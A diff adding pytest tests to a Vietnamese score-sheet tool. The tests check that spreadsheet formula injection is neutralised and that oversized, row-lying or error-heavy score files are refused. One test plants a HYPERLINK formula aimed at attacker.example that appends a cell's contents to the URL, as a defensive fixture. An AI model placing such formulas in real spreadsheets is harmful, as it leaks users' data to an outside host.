@@ -400,3 +400,107 @@ def test_aes256_pdf_with_edit_restrictions_only_is_read(tmp_path: Path, capsys) 
     assert "VB901" not in out and "mật khẩu" not in out and "cryptography" not in out
     assert "VB903" in out  # read: a blank page has no text layer
     assert code in (0, 1)
+
+
+# -- Excel: formula injection, size and rows, long error lists ------------------------------
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_form(
+    content_copy: Path, tmp_path: Path, capsys
+) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
+    units = content_copy / "2024" / "units.yaml"
+    text = units.read_text(encoding="utf-8")
+    units.write_text(
+        text.replace("name: Chi hội Khuyến học Trường THPT Nguyễn Du", f"name: '{evil}'", 1),
+        encoding="utf-8",
+    )
+    plan = content_copy / "2024" / "plan.yaml"
+    ptext = plan.read_text(encoding="utf-8")
+    import re
+
+    first_title = re.search(r"\n(\s+)title: (.+)\n", ptext.split("criteria:", 1)[1])
+    assert first_title
+    ptext = ptext.replace(first_title.group(0), f"\n{first_title.group(1)}title: '=1+1'\n", 1)
+    plan.write_text(ptext, encoding="utf-8")
+    form = tmp_path / "form.xlsx"
+    code, _, err, _ = run(
+        ["form", "--content", str(content_copy), "--year", "2024", "--out", str(form)], capsys
+    )
+    assert code == 0, err
+    with zipfile.ZipFile(form) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    formulas = re.findall(rb"<f>(.*?)</f>", xml)
+    assert formulas  # the form's own totals are still formulas
+    assert not any(b"HYPERLINK" in f or f == b"1+1" for f in formulas)
+    wb = load_workbook(form)
+    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert evil in values  # still there, as text
+    assert any(isinstance(v, str) and "=1+1" in v for v in values)
+
+
+def _scores_xlsx(path: Path, rows: int, bad: bool = False, lying: bool = False) -> Path:
+    """A score sheet of ``rows`` units; ``lying``: the sheet's stated size says one row (the
+    reader must stop by counting, not trust it)."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet("Chấm điểm")
+    ws.append(
+        ["STT", "Mã đơn vị", "Tên đơn vị", "ND1 (20)", "ND2.1 (8)", "ND2.2 (8)", "ND2.3 (8)"]
+        + ["ND2.4 (8)", "ND3 (20)", "ND4 (20)", "Thưởng (8)", "Tổng (100)", "Ghi chú"]
+    )
+    for i in range(rows):
+        ws.append([i + 1, f"don-vi-{i}", f"Đơn vị {i}", "mười" if bad else 10, 5, 5, 5, 5, 10])
+    wb.save(path)
+    if lying:
+        with zipfile.ZipFile(path) as z:
+            parts = {n: z.read(n) for n in z.namelist()}
+        import re
+
+        sheet = "xl/worksheets/sheet1.xml"
+        parts[sheet] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:M1"', parts[sheet])
+        if b"<dimension" not in parts[sheet]:
+            parts[sheet] = parts[sheet].replace(
+                b"<sheetData", b'<dimension ref="A1:M1"/><sheetData', 1
+            )
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+            for n, data in parts.items():
+                z.writestr(n, data)
+    return path
+
+
+@pytest.mark.parametrize("lying", [False, True])
+def test_a_score_sheet_with_too_many_rows_is_refused_quickly(
+    lying: bool, content_copy: Path, capsys, memory_bound
+) -> None:
+    year = content_copy / "2024"
+    (year / "scores.csv").unlink()
+    _scores_xlsx(year / "scores.xlsx", 10_000 if lying else 6_000, lying=lying)
+    code, out, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
+    assert code == 1 and "hơn 5000 dòng" in err and "scores.xlsx" in err
+    assert len(err.splitlines()) < 10 and secs < 5
+
+
+def test_long_error_lists_stop_with_a_count(content_copy: Path, capsys) -> None:
+    year = content_copy / "2024"
+    (year / "scores.csv").unlink()
+    _scores_xlsx(year / "scores.xlsx", 300, bad=True)
+    code, out, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
+    assert code == 1
+    assert "vấn đề khác" in err and len(err.splitlines()) <= 60
+    assert secs < 5
+
+
+def test_a_huge_score_file_is_refused_by_size(content_copy: Path, capsys) -> None:
+    csv = content_copy / "2024" / "scores.csv"
+    with csv.open("a", encoding="utf-8") as f:
+        f.write(("#" + " " * 1000 + "\n") * 25_000)
+    code, _, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
+    assert code == 1 and "tệp quá lớn" in err and secs < 5
